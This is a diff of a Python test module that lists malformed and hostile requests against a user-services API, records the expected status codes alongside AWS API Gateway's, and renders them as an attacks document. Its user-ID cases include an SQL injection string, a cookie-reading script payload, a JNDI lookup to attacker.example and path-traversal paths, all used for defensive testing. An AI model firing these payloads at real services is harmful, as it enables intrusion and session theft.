@@ -61,16 +61,16 @@ def _no_route(what: str, method: str = "GET", target: bytes = Attack.target) -> 
     return Attack(what=what, aws="403", source="gateway responses", here=403, method=method, target=target)
 
 
-def _user_id(what: str, user_id: str, *, here: int = 200) -> Attack:
+def _user_id(what: str, user_id: str, *, here: int = 200, target: bytes = b"") -> Attack:
     """A request for a user ID that no user has: an empty list (200), or an invalid user ID (400)."""
-    return Attack(
-        what=f"user ID: {what}",
-        aws=str(here),
-        source="our handler",
-        here=here,
-        target=_path(user_id),
-        reaches_handler=True,
-    )
+    fields = {"source": "our handler", "here": here, "target": target or _path(user_id), "reaches_handler": True}
+    return Attack(what=f"user ID: {what}", aws=str(here), **fields)
+
+
+def _not_encoded(what: str, target: bytes) -> Attack:
+    difference = "Only another user's data or implementation details would be wrong."
+    fields = {"source": "important notes", "here": 400, "difference": difference, "target": target}
+    return Attack(what=f"user ID: {what}, not encoded", aws=UNDOCUMENTED, **fields)
 
 
 HEADING = """# Attacks on the API
@@ -91,7 +91,6 @@ Where the source is our handler, AWS documents no status: API Gateway passes the
 Statuses of AWS are those in the sources; none of these requests was sent to AWS.
 
 """
-NOT_UTF8 = b"/users/%ff%fe/services"
 ATTACKS = (
     _token("none"),
     _token("garbage"),
@@ -115,12 +114,7 @@ ATTACKS = (
     _no_route("all users", target=b"/users"),
     _no_route("a user, not the services", target=b"/users/victim"),
     _no_route("below the services", target=b"/users/victim/services/x"),
-    _no_route("POST", "POST"),
-    _no_route("PUT", "PUT"),
-    _no_route("DELETE", "DELETE"),
-    _no_route("PATCH", "PATCH"),
-    _no_route("OPTIONS", "OPTIONS"),
-    _no_route("HEAD", "HEAD"),
+    *(_no_route(method, method) for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")),
     _no_route("dots: /users/x/../victim/services", target=b"/users/x/../victim%40example.com/services"),
     _no_route(
         "dots, encoded, as segments: /users/x/%2e%2e/victim/services",
@@ -151,47 +145,20 @@ ATTACKS = (
     _user_id("SQL", "' OR '1'='1' --"),
     _user_id("HTML", "<script>alert(document.cookie)</script>"),
     _user_id("a template", "${jndi:ldap://attacker.example/a}{{7*7}}"),
-    Attack(
-        what="user ID: a non-ASCII letter, not encoded",
-        aws=UNDOCUMENTED,
-        source="important notes",
-        here=400,
-        difference="Only another user's data or implementation details would be wrong.",
-        target="/users/vict\u0456m/services".encode(),
-    ),
-    Attack(
-        what="user ID: a NUL, not encoded",
-        aws=UNDOCUMENTED,
-        source="important notes",
-        here=400,
-        difference="As above.",
-        target=b"/users/victim\0/services",
-    ),
+    _not_encoded("a non-ASCII letter", "/users/vict\u0456m/services".encode()),
+    _not_encoded("a NUL", b"/users/victim\0/services"),
     _user_id("12,000 characters", "x" * 12_000, here=400),
-    Attack(what="user ID: not UTF-8", aws="400", source="our handler", here=400, target=NOT_UTF8, reaches_handler=True),
-    Attack(
-        what="user ID: a space",
-        aws="400",
-        source="our handler",
-        here=400,
-        target=b"/users/%20/services",
-        reaches_handler=True,
-    ),
+    _user_id("not UTF-8", "", here=400, target=b"/users/%ff%fe/services"),
+    _user_id("a space", " ", here=400),
 )
 
 
 def document() -> str:
     """The text of docs/attacks.md."""
-    rows = (
-        (
-            attack.what.replace("|", r"\|"),
-            attack.aws,
-            f"[{attack.source}]({SOURCES[attack.source]})",
-            str(attack.here),
-            attack.difference or "none",
-        )
-        for attack in ATTACKS
-    )
+    rows = []
+    for attack in ATTACKS:
+        source = f"[{attack.source}]({SOURCES[attack.source]})"
+        rows.append((attack.what, attack.aws, source, str(attack.here), attack.difference or "none"))
     return f"{HEADING}{table(('attack', 'AWS', 'source', 'embedded cloud', 'difference'), rows)}\n"
 
 
